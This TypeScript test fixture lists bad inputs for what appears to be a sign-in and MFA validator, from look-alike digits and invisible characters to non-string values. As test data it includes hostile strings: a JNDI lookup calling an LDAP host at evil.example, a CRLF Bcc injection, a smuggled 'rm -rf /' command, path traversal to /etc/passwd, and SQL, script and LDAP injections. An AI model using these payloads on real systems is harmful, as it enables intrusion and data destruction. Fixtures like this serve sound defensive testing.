/**
 * Bad input, each value named: digits from other scripts, bidirectional
 * overrides and invisible characters, control characters, 10 kB and 1 MB
 * strings, injection strings, numbers that are not E.164 phone numbers, and
 * values that are not strings at all (what plain JavaScript, a form's
 * `FormData.get()` or a hostile page can send). Every value is bad for every
 * input it is tried on: `okFor` names the few inputs where a value is in fact
 * fine, from the inputs' own rules (a password is any 1 to 256 characters).
 */

export type Field = 'username' | 'password' | 'newPassword' | 'code' | 'email' | 'phone' | 'method' | 'attributes' | 'answer' | 'passkeyId';

export interface BadValue {
  readonly name: string;
  /** Made fresh for each use (some values are objects a machine could keep). */
  make(): unknown;
  /** Inputs for which this value is acceptable after all. */
  readonly okFor?: readonly Field[];
}

const text = (name: string, value: string, okFor?: readonly Field[]): BadValue => ({
  name,
  make: () => value,
  ...(okFor ? { okFor } : {}),
});
const thing = (name: string, make: () => unknown): BadValue => ({ name, make });

/** A password is any string of 1 to 256 characters; only other inputs refuse the strings below. */
const PASSWORD: readonly Field[] = ['password', 'newPassword'];

const hostileProxy = () =>
  new Proxy(
    {},
    {
      get: (target, key) => {
        if (typeof key === 'symbol') return Reflect.get(target, key);
        throw new Error(`hostile read of ${key}`);
      },
      has: () => {
        throw new Error('hostile has');
      },
      ownKeys: () => {
        throw new Error('hostile keys');
      },
    },
  );

export const CORPUS: readonly BadValue[] = [
  // Digits that are not ASCII digits.
  text('Arabic-Indic digits', '١٢٣٤٥٦', PASSWORD),
  text('Extended Arabic-Indic digits', '۱۲۳۴۵۶', PASSWORD),
  text('full-width digits', '１２３４５６', PASSWORD),
  text('Devanagari digits', '१२३४५६', PASSWORD),
  text('Bengali digits', '১২৩৪৫৬', PASSWORD),
  text('superscript digits', '¹²³⁴⁵⁶', PASSWORD),
  text('mathematical bold digits', '𝟏𝟐𝟑𝟒𝟓𝟔', PASSWORD),
  text('circled digits', '①②③④⑤⑥', PASSWORD),
  text('one full-width digit among ASCII', '１23456', PASSWORD),
  text('Arabic-Indic phone number', '+١٥٥٥٠١٠٠١٠١', PASSWORD),
  // Bidirectional overrides and invisible characters.
  text('right-to-left override before a code', '\u202E123456', PASSWORD),
  text('right-to-left override inside an email', 'pat@exa\u202Emple.com', PASSWORD),
  text('left-to-right mark before a code', '\u200E123456', PASSWORD),
  text('zero-width space inside a code', '123\u200B456', PASSWORD),
  text('zero-width joiner inside a code', '123\u200D456', PASSWORD),
  text('soft hyphen inside a code', '123\u00AD456', PASSWORD),
  text('word joiner before a code', '\u2060123456', PASSWORD),
  text('right-to-left override in a phone number', '+1555\u202E0100101', PASSWORD),
  // Control characters.
  text('NUL', '\u0000', PASSWORD),
  text('NUL after a code', '123456\u0000', PASSWORD),
  text('BEL', '\u0007', PASSWORD),
  text('ANSI escape before a code', '\u001B[31m123456', PASSWORD),
  text('CRLF header injection after an email', 'pat@example.com\r\nBcc: x@evil.example', PASSWORD),
  text('DEL inside a code', '123\u007F456', PASSWORD),
  // Sizes.
  text('empty string', ''),
  text('only spaces', '   ', PASSWORD),
  text('a 129-character email', `${'a'.repeat(117)}@example.com`, PASSWORD),
  text('257 characters', 'p'.repeat(257)),
  text('10 kB string', '7'.repeat(10 * 1024)),
  text('1 MB string', 'x'.repeat(1024 * 1024)),
  // Injection strings.
  text('SQL injection', "' OR '1'='1", PASSWORD),
  text('SQL statement', "'; DROP TABLE users;--", PASSWORD),
  text('script tag', '<script>alert(1)</script>', PASSWORD),
  text('HTML event handler', '<img src=x onerror=alert(1)>', PASSWORD),
  text('template injection', '{{7*7}}', PASSWORD),
  text('JNDI lookup', ['$', '{jndi:ldap://evil.example/a}'].join(''), PASSWORD),
  text('path traversal', '../../etc/passwd', PASSWORD),
  text('URL-encoded CRLF', '%0d%0aSet-Cookie:%20a=b', PASSWORD),
  text('LDAP filter', '*)(uid=*))(|(uid=*', PASSWORD),
  text('NoSQL operator as JSON', '{"$gt":""}', PASSWORD),
  text('shell command', '123456; rm -rf /', PASSWORD),
  text('javascript: URL', 'javascript:alert(1)', PASSWORD),
  // Codes that are not 6 digits.
  text('5 digits', '12345', PASSWORD),
  text('7 digits', '1234567', PASSWORD),
  text('letters', 'abcdef', PASSWORD),
  text('a decimal', '123.456', PASSWORD),
  text('an exponent', '1e5', PASSWORD),
  text('hexadecimal', '0x1E240', PASSWORD),
  // Phone numbers that are not E.164.
  text('local number without country code', '555-0101', PASSWORD),
  text('US format without +1', '(555) 010-0101', PASSWORD),
  text('country code 0', '+0 555 010 0101', PASSWORD),
  text('a plus and one digit', '+1', PASSWORD),
  text('16 digits', '+1234567890123456', PASSWORD),
  text('letters in a phone number', '+1-555-CALL-NOW', PASSWORD),
  text('two plus signs', '++15550100101', PASSWORD),
  text('tel: URL', 'tel:+15550100101', PASSWORD),
  text('extension', '+1 555 010 0101 ext. 5', PASSWORD),
  // Emails that are not emails.
  text('no @', 'pat.example.com', PASSWORD),
  text('nothing after @', 'pat@', PASSWORD),
  text('nothing before @', '@example.com', PASSWORD),
  text('two @', 'pat@@example.com', PASSWORD),
  text('no dot in the domain', 'pat@example', PASSWORD),
  text('a space inside', 'pat smith@example.com', PASSWORD),
  // Method names that are not methods.
  text('lower-case method', 'totp', PASSWORD),
  text('method with a space', ' TOTP', PASSWORD),
  text('a method nobody offers', 'FAX', PASSWORD),
  text('Cognito 1.0 method name', 'SOFTWARE_TOKEN_MFA', PASSWORD),
  // Not strings.
  thing('null', () => null),
  thing('undefined', () => undefined),
  thing('the number 0', () => 0),
  thing('the number 123456', () => 123456),
  thing('the number -1', () => -1),
  thing('NaN', () => Number.NaN),
  thing('Infinity', () => Number.POSITIVE_INFINITY),
  thing('1.5', () => 1.5),
  thing('true', () => true),
  thing('false', () => false),
  thing('the BigInt 123456n', () => 123456n),
  thing('a Symbol', () => Symbol('123456')),
  thing('an empty object', () => ({})),
  thing('an empty array', () => []),
  thing('an array with a code', () => ['123456']),
  thing('nested arrays', () => [[['123456']]]),
  thing('an object with a code', () => ({ code: '123456' })),
  thing('an object whose toString gives a code', () => ({ toString: () => '123456' })),
  thing('a String object', () => new String('123456')),
  thing('a function', () => () => '123456'),
  thing('a Date', () => new Date(0)),
  thing('a RegExp', () => /123456/),
  thing('a Map', () => new Map([['code', '123456']])),
  thing('an object without a prototype', () => Object.create(null)),
  thing('a Uint8Array', () => new Uint8Array([49, 50, 51, 52, 53, 54])),
  thing('an object whose every read throws', hostileProxy),
];

/** Whether a value must be refused by this input. */
export function isBadFor(value: BadValue, field: Field): boolean {
  return !(value.okFor ?? []).includes(field);
}

/** Attributes sent with a new password must be a record of strings; these are not. */
export const BAD_ATTRIBUTES: readonly BadValue[] = [
  // Absent, empty or a record of strings would be fine.
  ...CORPUS.filter((v) => !['undefined', 'an empty object', 'an object without a prototype', 'an object with a code'].includes(v.name)),
  thing('a record with a number', () => ({ email: 42 })),
  thing('a record with null', () => ({ email: null })),
  thing('a record with an object', () => ({ email: { value: 'pat@example.com' } })),
];

/**
 * A custom challenge's answer is free text as typed: any string that is not blank and at most 2048 characters
 * (Cognito's limit) is an answer. These are not: every value of the corpus that breaks that rule.
 */
export const BAD_ANSWERS: readonly BadValue[] = CORPUS.filter((v) => {
  const value = v.make();
  return typeof value !== 'string' || value.trim() === '' || value.length > 2048;
});
